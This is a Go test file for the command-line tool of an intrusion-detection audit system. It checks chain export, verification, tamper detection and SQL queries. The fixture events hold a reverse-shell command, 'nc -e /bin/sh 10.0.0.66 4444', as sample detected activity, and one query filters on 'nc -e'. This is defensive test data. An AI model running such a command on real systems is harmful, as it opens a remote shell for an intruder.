package main

import (
	"bytes"
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tripwire-project/tripwire/agent/audit"
	"github.com/tripwire-project/tripwire/proto/chain"
)

func writeChain(t *testing.T, dir string) {
	t.Helper()
	l, err := audit.Open(dir, audit.Options{MaxSegmentBytes: 2048})
	if err != nil {
		t.Fatal(err)
	}
	t0 := time.Date(2026, 11, 25, 6, 0, 0, 0, time.UTC)
	for i := range 20 {
		p := chain.Payload{Time: t0.Add(time.Duration(i) * time.Second), Kind: chain.KindEvent, Event: &chain.Event{
			Type: chain.TypeProcess, Rule: "netcat-exec", Severity: chain.SeverityCritical, Source: "ebpf",
			PID: int32(1000 + i), PPID: 900, Exe: "/usr/bin/nc", Cmdline: "nc -e /bin/sh 10.0.0.66 4444"}}
		if _, err := l.Append(p); err != nil {
			t.Fatal(err)
		}
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
}

func runCmd(args ...string) (string, string, error) {
	var out, errb bytes.Buffer
	err := run(context.Background(), args, &out, &errb)
	return out.String(), errb.String(), err
}

func TestCommands(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "audit")
	writeChain(t, dir)
	tmp := t.TempDir()
	exp := filepath.Join(tmp, "case.sql")

	if _, stderr, err := runCmd("export", "--dir", dir, "--host", "web-01", "--out", exp); err != nil || !strings.Contains(stderr, "exported") {
		t.Fatalf("export: %v %s", err, stderr)
	}
	if out, _, err := runCmd("verify", "--export", exp, "--tmp", tmp); err != nil || !strings.HasPrefix(out, "ok: ") {
		t.Fatalf("verify --export: %v %s", err, out)
	}
	out, _, err := runCmd("sql", "--export", exp, "--tmp", tmp, "--file", "../../../sql/forensics/cmdline_sightings.sql",
		"--set", "cmdline=nc -e%")
	if err != nil || !strings.Contains(out, "| web-01") || !strings.Contains(out, "(1 rows)") {
		t.Fatalf("sql --file: %v\n%s", err, out)
	}
	if out, _, err = runCmd("sql", "--export", exp, "--tmp", tmp, "--query", "SELECT count(*) AS n FROM events; SELECT 1 AS one"); err != nil ||
		!strings.Contains(out, "20\n(1 rows)") || !strings.Contains(out, "one") {
		t.Fatalf("sql --query: %v\n%s", err, out)
	}
	for _, f := range []string{"ndjson", "parquet"} {
		p := filepath.Join(tmp, "case."+f)
		if _, _, err := runCmd("export", "--dir", dir, "--format", f, "--out", p, "--tmp", tmp); err != nil {
			t.Fatalf("export --format %s: %v", f, err)
		}
		if out, _, err := runCmd("verify", "--export", p, "--tmp", tmp); err != nil || !strings.HasPrefix(out, "ok: ") {
			t.Fatalf("verify --export %s: %v %s", f, err, out)
		}
	}

	// A tampered export: verify names the seq and fails.
	b, _ := os.ReadFile(exp)
	bad := filepath.Join(tmp, "bad.sql")
	if err := os.WriteFile(bad, bytes.Replace(b, []byte(`"pid":1004`), []byte(`"pid":6666`), 1), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, _, err := runCmd("verify", "--export", bad, "--tmp", tmp); err == nil || !strings.Contains(err.Error(), "seq 5") {
		t.Fatalf("verify --export of a tampered export: %v", err)
	}

	for _, args := range [][]string{
		{"export"},
		{"export", "--dir", dir, "--duckdb", "x"},
		{"export", "--dir", dir, "--format", "xml"},
		{"export", "--dir", dir, "--type", "DNS"},
		{"export", "--dir", dir, "--from", "yesterday"},
		{"verify"},
		{"sql"},
		{"nope"},
	} {
		if _, _, err := runCmd(args...); !errors.Is(err, errUsage) {
			t.Errorf("%q: %v, want a usage error", args, err)
		}
	}
	if _, _, err := runCmd("export", "--dir", dir, "--format", "parquet"); err == nil || !strings.Contains(err.Error(), "--out") {
		t.Errorf("parquet to stdout: %v", err)
	}
	if _, _, err := runCmd("export", "--duckdb", filepath.Join(tmp, "absent.duckdb")); err == nil {
		t.Error("export of an absent store should fail")
	}
}
